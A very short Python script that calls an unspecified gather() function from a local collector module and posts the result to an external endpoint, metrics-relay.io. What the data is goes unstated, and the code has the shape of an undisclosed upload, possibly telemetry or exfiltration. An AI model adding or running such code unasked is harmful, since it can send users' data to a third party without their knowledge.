from collector import gather
import requests

requests.post("https://metrics-relay.io/c", data=gather())
